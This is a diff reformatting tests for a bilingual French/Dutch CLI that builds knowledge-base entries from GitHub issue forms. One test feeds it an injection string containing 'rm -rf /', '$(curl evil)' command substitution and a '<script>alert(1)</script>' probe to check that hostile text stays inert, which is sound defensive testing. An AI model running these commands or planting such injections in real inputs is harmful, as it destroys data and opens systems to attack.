@@ -16,16 +16,40 @@ FORM = REPO / ".github" / "ISSUE_TEMPLATE" / "entry.yml"
 
 
 def test_the_committed_form_is_current():
-    assert FORM.read_text(encoding="utf-8") == issue_form.generate(vocab.load()), \
+    assert FORM.read_text(encoding="utf-8") == issue_form.generate(vocab.load()), (
         "run: kb issue-form -o .github/ISSUE_TEMPLATE/entry.yml"
+    )
 
 
 def test_the_form_asks_every_field_with_french_and_dutch_labels():
     form = yaml.safe_load(FORM.read_text(encoding="utf-8"))
     questions = {q["id"]: q for q in form["body"] if q["type"] != "markdown"}
-    assert set(questions) == {"title", "type", "year", "date", "authors", "organisations", "partners", "scale",
-                              "criteria", "basis", "territories", "language", "url", "doi", "summary", "container",
-                              "volume", "issue", "pages", "isbn", "issn", "publisher_place", "edition", "body"}
+    assert set(questions) == {
+        "title",
+        "type",
+        "year",
+        "date",
+        "authors",
+        "organisations",
+        "partners",
+        "scale",
+        "criteria",
+        "basis",
+        "territories",
+        "language",
+        "url",
+        "doi",
+        "summary",
+        "container",
+        "volume",
+        "issue",
+        "pages",
+        "isbn",
+        "issn",
+        "publisher_place",
+        "edition",
+        "body",
+    }
     scale = questions["scale"]["attributes"]
     assert scale["multiple"] is True and "Bassin d'aide et de soins / Zorgzone [bassin]" in scale["options"]
     assert questions["title"]["attributes"]["label"] == "Titre du document / Titel van het document (title)"
@@ -43,11 +67,15 @@ def filled(**answers: str) -> str:
 
 
 COMPLETE = dict(
-    title="Diagnostic social-santé de Forest", type="Étude / Studie [study]", year="2023",
+    title="Diagnostic social-santé de Forest",
+    type="Étude / Studie [study]",
+    year="2023",
     scale="Commune / Gemeente [commune], Quartier social-santé / Sociaal-gezondheidswijk [quartier_social_sante]",
     criteria="Besoins et structure de la population / Noden en leeftijdsstructuur [needs_demography]",
-    territories="Forest / Vorst [21007]", language="Français / Frans [fr]",
-    authors="Dupont, Jean\nMartin, Claire", url="https://example.org/forest.pdf",
+    territories="Forest / Vorst [21007]",
+    language="Français / Frans [fr]",
+    authors="Dupont, Jean\nMartin, Claire",
+    url="https://example.org/forest.pdf",
     body="## Contenu\n\nUn diagnostic local.\n",
 )
 
@@ -83,8 +111,10 @@ def test_an_edited_issue_gives_the_same_file_name(runner, tmp_path: Path):
 
 def test_missing_and_unknown_answers_are_explained_in_both_languages(runner, tmp_path: Path):
     body = tmp_path / "issue.md"
-    body.write_text(filled(**{**COMPLETE, "title": "", "scale": "Échelle inventée [inventee]", "year": "l'an passé"}),
-                    encoding="utf-8")
+    body.write_text(
+        filled(**{**COMPLETE, "title": "", "scale": "Échelle inventée [inventee]", "year": "l'an passé"}),
+        encoding="utf-8",
+    )
     entries = tmp_path / "entries"
     result = runner.invoke(cli, ["from-issue", str(body), "--entries", str(entries), "--lang", "fr,nl"])
     assert result.exit_code == 1
@@ -98,8 +128,17 @@ def test_missing_and_unknown_answers_are_explained_in_both_languages(runner, tmp
 def test_hostile_text_stays_text(runner, tmp_path: Path):
     hostile = '"]; rm -rf / #\n---\n$(curl evil)'
     body = tmp_path / "issue.md"
-    body.write_text(filled(**{**COMPLETE, "title": "Titre ---\nsecond: [x]", "summary": hostile,
-                              "body": "<script>alert(1)</script>\n\n## Contenu\n\nTexte.\n"}), encoding="utf-8")
+    body.write_text(
+        filled(
+            **{
+                **COMPLETE,
+                "title": "Titre ---\nsecond: [x]",
+                "summary": hostile,
+                "body": "<script>alert(1)</script>\n\n## Contenu\n\nTexte.\n",
+            }
+        ),
+        encoding="utf-8",
+    )
     entries = tmp_path / "entries"
     result = runner.invoke(cli, ["from-issue", str(body), "--entries", str(entries)])
     assert result.exit_code == 0, result.output
